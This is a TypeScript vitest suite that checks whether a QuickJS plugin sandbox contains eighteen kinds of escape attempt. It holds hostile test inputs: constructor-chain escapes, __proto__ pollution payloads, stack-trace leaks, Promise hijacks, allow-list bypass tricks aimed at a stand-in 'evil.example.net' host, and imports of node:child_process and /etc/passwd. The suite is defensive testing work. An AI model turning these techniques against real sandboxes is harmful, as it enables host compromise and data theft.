// Sandbox escape attempts. Each one must be contained (an expected result or error code, nothing
// of the host reachable or changed), and the host must serve a normal run right after it.
import { describe, expect, it } from 'vitest';
import { BridgeError } from './errors.js';
import type { JsonValue } from './json.js';
import { load, type LoadedPlugin, type RunStepOptions } from './load.js';
import type { HostServices } from './services.js';
import { ALL_PERMISSIONS, manifestFor, recordingServices, signedPlugin } from './test-support.js';

const ANY = { type: 'object' };

async function attempt(body: string, files: Record<string, string> = {}): Promise<LoadedPlugin> {
  const manifest = manifestFor(
    'mallory.escape',
    { run: { inputSchema: ANY, outputSchema: {} }, echo: {} },
    { permissions: ALL_PERMISSIONS },
  );
  const plugin = await signedPlugin(manifest, {
    'index.js': `export default { steps: {
      async run(input, ctx) {\n${body}\n},
      echo: (input) => ({ text: input.text }),
    } };\n`,
    ...files,
  });
  return load(plugin.artifact, plugin.envelope, plugin.keys, ALL_PERMISSIONS);
}

function options(overrides: Partial<HostServices> = {}, limits: RunStepOptions['limits'] = {}) {
  const rec = recordingServices(overrides);
  return { rec, run: { services: rec.services, audit: rec.audit, limits } satisfies RunStepOptions };
}

/** Runs `run`; returns its output, or the error code and message. */
async function outcome(
  plugin: LoadedPlugin,
  run: RunStepOptions,
  input: JsonValue = {},
): Promise<{ output?: JsonValue; code?: string; message?: string }> {
  try {
    return { output: (await plugin.runStep('run', input, run)).output };
  } catch (error) {
    const { code, message } = error as { code?: string; message?: string };
    if (!code) throw error;
    return { code, message };
  }
}

/** The host still serves a normal run, with a fresh sandbox. */
async function expectHealthy(plugin: LoadedPlugin): Promise<void> {
  const { run } = options();
  expect((await plugin.runStep('echo', { text: 'still here' }, run)).output).toEqual({ text: 'still here' });
  expect(({} as Record<string, unknown>).polluted).toBeUndefined();
}

const HOST_PATH = /\/work\/|node_modules|\.ts\b|file:\/\/|quickjs-emscripten/;

describe('sandbox escape attempts', () => {
  it('1. constructor chains from bridges, their results and their errors reach only the sandbox Function', async () => {
    const plugin = await attempt(`
      const viaFetch = ctx.fetch.constructor.constructor('return typeof process + typeof require + typeof Buffer')();
      const viaLog = ctx.log.constructor('return this')() === globalThis;
      const res = await ctx.fetch('https://api.weather.com/');
      const viaResult = res.constructor.constructor('return typeof process')();
      let viaError;
      try { await ctx.fetch('https://evil.example.net/'); } catch (e) { viaError = e.constructor.constructor('return typeof globalThis.process')(); }
      let viaNamespace = Object.getPrototypeOf(ctx.storage).constructor.constructor('return typeof module')();
      return { viaFetch, viaLog, viaResult, viaError, viaNamespace, sameFunction: ctx.fetch.constructor === Function };
    `);
    const { run } = options();
    expect(await outcome(plugin, run)).toEqual({
      output: {
        viaFetch: 'undefinedundefinedundefined',
        viaLog: true,
        viaResult: 'undefined',
        viaError: 'undefined',
        viaNamespace: 'undefined',
        sameFunction: true,
      },
    });
    await expectHealthy(plugin);
  });

  it('2. Function("return globalThis") shows only the sandbox global', async () => {
    const plugin = await attempt(`
      const g = Function('return globalThis')();
      const names = Object.getOwnPropertyNames(g);
      return { same: g === globalThis, hostish: names.filter((n) => /^(process|require|module|exports|Buffer|fetch|setTimeout|setImmediate|console|WebAssembly|Atomics|XMLHttpRequest|importScripts|global)$/.test(n)), evalGlobal: (0, eval)('this') === globalThis };
    `);
    const { run } = options();
    expect(await outcome(plugin, run)).toEqual({ output: { same: true, hostish: [], evalGlobal: true } });
    await expectHealthy(plugin);
  });

  it('3. __proto__ keys in bridge arguments are refused and do not pollute the host', async () => {
    const plugin = await attempt(`
      const out = [];
      const tries = [
        () => ctx.storage.set('k', JSON.parse('{"__proto__": {"polluted": "yes"}}')),
        () => ctx.storage.set('k', { nested: [JSON.parse('{"a": 1, "__proto__": {"polluted": "yes"}}')] }),
        () => ctx.sensors.read('s', { toJSON() { return JSON.parse('{"__proto__": {"polluted": "yes"}}'); } }),
        () => ctx.fetch('https://api.weather.com/', { headers: JSON.parse('{"__proto__": {"polluted": "yes"}}') }),
      ];
      for (const t of tries) { try { await t(); out.push('accepted'); } catch (e) { out.push(e.name); } }
      return out;
    `);
    const { rec, run } = options();
    expect(await outcome(plugin, run)).toEqual({ output: ['TypeError', 'TypeError', 'TypeError', 'TypeError'] });
    expect(rec.calls).toEqual([]);
    expect(rec.store.size).toBe(0);
    await expectHealthy(plugin);
  });

  it('4. __proto__ keys and pollution attempts in return values do not reach the host', async () => {
    const plugin = await attempt(`
      Object.prototype.polluted = 'in the sandbox only';
      return JSON.parse('{"__proto__": {"polluted": "yes"}, "constructor": {"prototype": {"polluted": "yes"}}}');
    `);
    const { run } = options();
    expect(await outcome(plugin, run)).toMatchObject({
      code: 'invalid-output',
      message: expect.stringContaining('__proto__'),
    });
    await expectHealthy(plugin);
  });

  it('5. callbacks and getters in arguments run in the sandbox once and arrive as plain data', async () => {
    const plugin = await attempt(`
      let reads = 0;
      const query = {
        get unit() { reads += 1; Object.prototype.polluted = 'sandbox'; return 'C'; },
        onData: () => 'callbacks do not cross',
        [Symbol('s')]: 1,
      };
      await ctx.sensors.read('line-1', query);
      return { reads, sandboxPolluted: ({}).polluted };
    `);
    const { rec, run } = options();
    expect(await outcome(plugin, run)).toEqual({ output: { reads: 1, sandboxPolluted: 'sandbox' } });
    const [call] = rec.calls;
    expect(call).toEqual({ service: 'sensors.read', args: ['line-1', { unit: 'C' }] });
    expect(Object.getPrototypeOf(call!.args[1])).toBe(Object.prototype);
    await expectHealthy(plugin);
  });

  it('6. Error.prepareStackTrace and stack inspection reveal no host frames or paths', async () => {
    const plugin = await attempt(`
      const frames = [];
      Error.prepareStackTrace = (e, callSites) => { frames.push(callSites); return 'hijacked'; };
      Error.stackTraceLimit = Infinity;
      const stacks = [];
      try { await ctx.fetch('https://evil.example.net/'); } catch (e) { stacks.push(String(e.stack)); }
      try { await ctx.storage.get('crash'); } catch (e) { stacks.push(String(e.stack), e.message); }
      try { ctx.storage.get(1); } catch (e) { stacks.push(String(e.stack)); }
      try { null.x; } catch (e) { stacks.push(String(e.stack)); }
      return { stacks, frames: frames.length };
    `);
    const { run } = options({
      storage: {
        get: async () => {
          throw new Error('failed at /work/main/packages/host/src/secret.ts:10');
        },
        set: async () => undefined,
        delete: async () => undefined,
        list: async () => [],
      },
    });
    const hostPrepare = (Error as { prepareStackTrace?: unknown }).prepareStackTrace;
    const result = await outcome(plugin, run);
    const { stacks, frames } = result.output as { stacks: string[]; frames: number };
    expect(frames).toBe(0);
    expect(stacks).toContainEqual(expect.stringMatching(/^The host could not complete storage.get: /));
    for (const stack of stacks) expect(stack).not.toMatch(HOST_PATH);
    expect((Error as { prepareStackTrace?: unknown }).prepareStackTrace).toBe(hostPrepare);
    await expectHealthy(plugin);
  });

  it('7. throwing Symbols, hostile objects and Proxies fails the step with a readable message', async () => {
    const plugin = await attempt(`
      switch (input.kind) {
        case 'symbol': throw Symbol('boom');
        case 'symbol-name': { const e = new Error('named by a symbol'); e.name = Symbol('evil'); throw e; }
        case 'getter': throw { get message() { throw new Error('gotcha'); }, get name() { throw 1; } };
        case 'proxy': throw new Proxy({}, { get() { throw new Error('trap'); }, getPrototypeOf() { throw new Error('trap'); } });
        case 'null': throw null;
        case 'looping-getter': throw { get message() { for (;;) {} } };
        case 'rejected-symbol': return Promise.reject(Symbol.for('x'));
      }
    `);
    const { run } = options({}, { timeoutMs: 300 });
    const cases: Array<[string, string, RegExp | string]> = [
      ['symbol', 'plugin-error', 'Symbol(boom)'],
      ['symbol-name', 'plugin-error', /^named by a symbol \(at index.js:\d+:\d+\)$/],
      ['getter', 'plugin-error', 'The plugin threw an error without a message.'],
      ['proxy', 'plugin-error', 'The plugin threw an error without a message.'],
      ['null', 'plugin-error', 'null'],
      ['looping-getter', 'timeout', /did not finish within 300 ms/],
      ['rejected-symbol', 'plugin-error', 'Symbol(x)'],
    ];
    for (const [kind, code, message] of cases) {
      const result = await outcome(plugin, run, { kind });
      expect(result, kind).toMatchObject({
        code,
        message: typeof message === 'string' ? message : expect.stringMatching(message),
      });
      await expectHealthy(plugin);
    }
  });

  it('8. host exceptions carrying objects, paths or non-Error values reach the sandbox as a message only', async () => {
    const plugin = await attempt(`
      const seen = [];
      for (const id of ['object', 'function', 'error']) {
        try { await ctx.sensors.read(id); } catch (e) {
          seen.push({ type: typeof e, own: Object.getOwnPropertyNames(e).sort(), message: e.message, host: typeof e.hostObject, stack: String(e.stack) });
        }
      }
      return seen;
    `);
    const hostObject = { process, secret: 'db-password' };
    const { run } = options({
      sensors: {
        async read(id) {
          if (id === 'object') throw hostObject;
          if (id === 'function') throw () => process.exit(1);
          throw Object.assign(new Error(`EACCES: ${process.cwd()}/secrets.json`), { hostObject, code: 'EACCES' });
        },
      },
    });
    const { output } = await outcome(plugin, run);
    expect(output).toHaveLength(3);
    for (const seen of output as Array<Record<string, unknown>>) {
      expect(seen).toMatchObject({
        type: 'object',
        message: expect.stringMatching(/^The host could not complete sensors.read: the platform service failed/),
        host: 'undefined',
      });
      expect(seen.own).toEqual(['message', 'stack']);
      expect(seen.stack).not.toMatch(HOST_PATH);
      expect(JSON.stringify(seen)).not.toContain('db-password');
    }
    await expectHealthy(plugin);
  });

  it('9. Promise species and then-hijacking cannot forge or hang the host', async () => {
    const plugin = await attempt(`
      switch (input.kind) {
        case 'species': {
          Object.defineProperty(Promise, Symbol.species, { get() { throw new Error('species'); } });
          class Evil extends Promise { static get [Symbol.species]() { return function (executor) { executor(() => {}, () => {}); return {}; }; } }
          const reading = await ctx.sensors.read('s');
          return Evil.resolve({ text: 'evil', reading });
        }
        case 'then': {
          Promise.prototype.then = function () { return this; };
          return Promise.resolve({ text: 'never' });
        }
        case 'thenable': {
          return { then(resolve, reject) { resolve({ first: true }); resolve({ second: true }); reject(new Error('late')); } };
        }
        case 'constructor': {
          const p = Promise.resolve({ forged: true });
          p.constructor = function Forged() {};
          return p;
        }
      }
    `);
    const { run } = options({}, { timeoutMs: 300 });
    expect(await outcome(plugin, run, { kind: 'species' })).toEqual({
      output: { text: 'evil', reading: { sensorId: 's', celsius: 21.5 } },
    });
    await expectHealthy(plugin);
    expect(await outcome(plugin, run, { kind: 'then' })).toMatchObject({
      code: expect.stringMatching(/^(plugin-error|timeout)$/),
    });
    await expectHealthy(plugin);
    expect(await outcome(plugin, run, { kind: 'thenable' })).toEqual({ output: { first: true } });
    expect(await outcome(plugin, run, { kind: 'constructor' })).toEqual({ output: { forged: true } });
    await expectHealthy(plugin);
  });

  it('10. check-then-use: Proxy, toString and toJSON tricks cannot change the URL after the allow-list check', async () => {
    const plugin = await attempt(`
      const flip = () => { let n = 0; return () => (n++ === 0 ? 'https://api.weather.com/ok' : 'https://evil.example.net/steal'); };
      const out = [];
      const tries = [
        () => ctx.fetch({ toString: flip() }),
        () => ctx.fetch(new Proxy({}, { get: (t, k) => (k === Symbol.toPrimitive ? flip() : undefined) })),
        () => ctx.fetch({ toJSON: flip() }),
        () => { const s = new String('x'); s.toString = flip(); return ctx.fetch(s); },
        () => ctx.fetch('https://api.weather.com/', { get method() { return out.length ? 'GET' : 'GET'; }, get headers() { return { 'x-n': String(out.length) }; } }),
        () => { Array.prototype.toJSON = () => 'https://api.weather.com/'; try { return ctx.fetch('https://evil.example.net/', {}); } finally { delete Array.prototype.toJSON; } },
      ];
      for (const t of tries) { try { const r = await t(); out.push('fetched ' + r.body); } catch (e) { out.push(e.name); } }
      return out;
    `);
    const { rec, run } = options();
    const { output } = await outcome(plugin, run);
    expect(output).toEqual([
      'TypeError',
      'TypeError',
      'fetched fetched https://api.weather.com/ok',
      'fetched fetched https://api.weather.com/ok',
      'fetched fetched https://api.weather.com/',
      'TypeError',
    ]);
    expect(rec.fetched.map((r) => r.url.href)).toEqual([
      'https://api.weather.com/ok',
      'https://api.weather.com/ok',
      'https://api.weather.com/',
    ]);
    // What the service received is the very URL object whose host was checked.
    for (const request of rec.fetched) expect(request.url.host).toBe('api.weather.com');
    expect(rec.audits.filter((a) => a.allowed).map((a) => a.detail?.url)).toEqual([
      'https://api.weather.com/ok',
      'https://api.weather.com/ok',
      'https://api.weather.com/',
    ]);
    await expectHealthy(plugin);
  });

  it('11. require, dynamic import of anything outside the package, and module escapes are refused', async () => {
    const plugin = await attempt(
      `
      const out = { require: typeof require, module: typeof module, process: typeof process };
      for (const spec of ['fs', 'node:child_process', '/etc/passwd', '../../../../etc/passwd', './../escape.js', './lib/../../x.js', 'https://evil.example.net/x.js', 'data:text/javascript,export default 1', './README.md', './lib/ok.js']) {
        try { const m = await import(spec); out[spec] = 'loaded ' + m.default; } catch (e) { out[spec] = e.message; }
      }
      return out;
    `,
      { 'lib/ok.js': 'export default "ok";\n' },
    );
    const { run } = options();
    const { output } = (await outcome(plugin, run)) as { output: Record<string, string> };
    expect(output.require).toBe('undefined');
    expect(output.module).toBe('undefined');
    expect(output.process).toBe('undefined');
    expect(output.fs).toMatch(/can only import its own files/);
    expect(output['node:child_process']).toMatch(/can only import its own files/);
    expect(output['/etc/passwd']).toMatch(/can only import its own files/);
    expect(output['../../../../etc/passwd']).toMatch(/outside the plugin package/);
    expect(output['./../escape.js']).toMatch(/outside the plugin package/);
    expect(output['./lib/../../x.js']).toMatch(/outside the plugin package/);
    expect(output['https://evil.example.net/x.js']).toMatch(/can only import its own files/);
    expect(output['data:text/javascript,export default 1']).toMatch(/can only import its own files/);
    expect(output['./README.md']).toMatch(/has no module README.md/);
    expect(output['./lib/ok.js']).toBe('loaded ok');
    await expectHealthy(plugin);
  });

  it('12. WebAssembly, Atomics and timers are absent from QuickJS', async () => {
    const plugin = await attempt(`
      return { wasm: typeof WebAssembly, atomics: typeof Atomics, timeout: typeof setTimeout, viaFunction: Function('return typeof WebAssembly')() };
    `);
    const { run } = options();
    expect(await outcome(plugin, run)).toEqual({
      output: { wasm: 'undefined', atomics: 'undefined', timeout: 'undefined', viaFunction: 'undefined' },
    });
    await expectHealthy(plugin);
  });

  it('13. infinite loops time out, including when caught, at module top level and in promise jobs', async () => {
    const plugin = await attempt(`
      switch (input.kind) {
        case 'plain': for (;;) {}
        case 'caught': try { for (;;) {} } catch { return 'survived'; }
        case 'job': await Promise.resolve().then(() => { for (;;) {} }); return 'done';
        case 'job-chain': { const spin = () => Promise.resolve().then(spin); spin(); await new Promise(() => {}); return 'done'; }
        case 'finally': try { for (;;) {} } finally { for (;;) {} }
      }
    `);
    const { run } = options({}, { timeoutMs: 200 });
    for (const kind of ['plain', 'caught', 'job', 'job-chain', 'finally']) {
      const started = performance.now();
      expect(await outcome(plugin, run, { kind }), kind).toMatchObject({ code: 'timeout' });
      expect(performance.now() - started).toBeLessThan(2000);
      await expectHealthy(plugin);
    }
    const topLevel = await attempt('return 1;', {});
    const looping = await signedPlugin(
      manifestFor('mallory.toplevel', { run: { inputSchema: ANY, outputSchema: {} } }),
      { 'index.js': 'for (;;) {}\nexport default { steps: {} };\n' },
    );
    const loaded = await load(looping.artifact, looping.envelope, looping.keys, []);
    expect(await outcome(loaded, run)).toMatchObject({ code: 'timeout' });
    await expectHealthy(topLevel);
  });

  it('14. the deadline covers awaited host calls that never answer, and their signal is aborted', async () => {
    const plugin = await attempt(`return await ctx.sensors.read('slow');`);
    let signal: AbortSignal | undefined;
    const { run } = options(
      {
        sensors: {
          read: (_id, _query, call) => {
            signal = call.signal;
            return new Promise(() => undefined);
          },
        },
      },
      { timeoutMs: 150 },
    );
    const started = performance.now();
    expect(await outcome(plugin, run)).toMatchObject({ code: 'timeout', message: expect.stringContaining('150 ms') });
    expect(performance.now() - started).toBeLessThan(1000);
    expect(signal?.aborted).toBe(true);
    await expectHealthy(plugin);
  });

  it('15. memory bombs run out of memory inside the sandbox; the host lives on', async () => {
    const plugin = await attempt(`
      switch (input.kind) {
        case 'repeat-split': return 'x'.repeat(2 ** 27).split('').length;
        case 'split': return 'x'.repeat(2 ** 24).split('').length;
        case 'arrays': { const keep = []; for (;;) keep.push(new Array(1 << 20).fill(keep.length)); }
        case 'strings': { let s = 'x'; for (;;) s = s.repeat(2); }
        case 'objects': { const keep = []; for (let i = 0; ; i++) keep.push({ i, s: 'item' + i, a: [i, i] }); }
        case 'catch-and-retry': { const keep = []; for (;;) { try { keep.push(new Array(1 << 20).fill(0)); } catch { keep.push(new Array(1 << 20).fill(0)); } } }
      }
    `);
    const { run } = options({}, { timeoutMs: 10_000, memoryBytes: 32 * 1024 * 1024 });
    const before = process.memoryUsage().rss;
    for (const kind of ['repeat-split', 'split', 'arrays', 'strings', 'objects', 'catch-and-retry']) {
      expect(await outcome(plugin, run, { kind }), kind).toMatchObject({
        code: 'out-of-memory',
        message: expect.stringContaining('32 MiB'),
      });
      await expectHealthy(plugin);
    }
    // Each run's memory goes with its module: the host does not keep what the bombs allocated.
    expect(process.memoryUsage().rss - before).toBeLessThan(512 * 1024 * 1024);
  });

  it('16. runaway recursion is stopped inside the sandbox', async () => {
    const plugin = await attempt(`
      switch (input.kind) {
        case 'plain': { const f = (n) => f(n + 1) + 1; return f(0); }
        case 'native': { const o = {}; o.toString = function () { return '' + this; }; return '' + o; }
        case 'json': { let deep = []; for (let i = 0; i < 1e5; i++) deep = [deep]; return JSON.stringify(deep).length; }
        case 'bridge': { const f = (n) => { ctx.log('depth ' + n); return f(n + 1); }; return f(0); }
      }
    `);
    // Unwinding 100,000 nested arrays takes QuickJS about a second on these machines.
    const { run } = options({}, { timeoutMs: 5000 });
    for (const kind of ['plain', 'native', 'json', 'bridge']) {
      expect(await outcome(plugin, run, { kind }), kind).toMatchObject({
        code: 'plugin-error',
        message: expect.stringMatching(/stack overflow|call stack/),
      });
      await expectHealthy(plugin);
    }
  });

  it('17. nothing survives from one run to the next', async () => {
    const plugin = await attempt(`
      const seen = { global: globalThis.leftover ?? null, proto: ({}).leftover ?? null, json: JSON.leftover ?? null, promise: Promise.prototype.leftover ?? null };
      globalThis.leftover = 'run 1';
      Object.prototype.leftover = 'run 1';
      JSON.leftover = 'run 1';
      Promise.prototype.leftover = 'run 1';
      try { ctx.fetch = () => 'replaced'; } catch {}
      return { seen, replaced: ctx.fetch.name };
    `);
    const { run } = options();
    const empty = { seen: { global: null, proto: null, json: null, promise: null }, replaced: 'fetch' };
    expect(await outcome(plugin, run)).toEqual({ output: empty });
    expect(await outcome(plugin, run)).toEqual({ output: empty });
    await expectHealthy(plugin);
  });

  it('18. a BridgeError is the only way a host message reaches the plugin, and it carries no host object', async () => {
    const plugin = await attempt(`
      try { await ctx.storage.set('k', 1); } catch (e) {
        return { message: e.message, name: e.name, isError: e instanceof Error, own: Object.getOwnPropertyNames(e).sort(), proto: Object.getPrototypeOf(e) === Error.prototype };
      }
    `);
    const { run } = options({
      storage: {
        get: async () => undefined,
        set: async () => {
          throw Object.assign(new BridgeError('Quota reached.'), { host: process });
        },
        delete: async () => undefined,
        list: async () => [],
      },
    });
    expect(await outcome(plugin, run)).toEqual({
      output: { message: 'Quota reached.', name: 'Error', isError: true, own: ['message', 'stack'], proto: true },
    });
    await expectHealthy(plugin);
  });
});
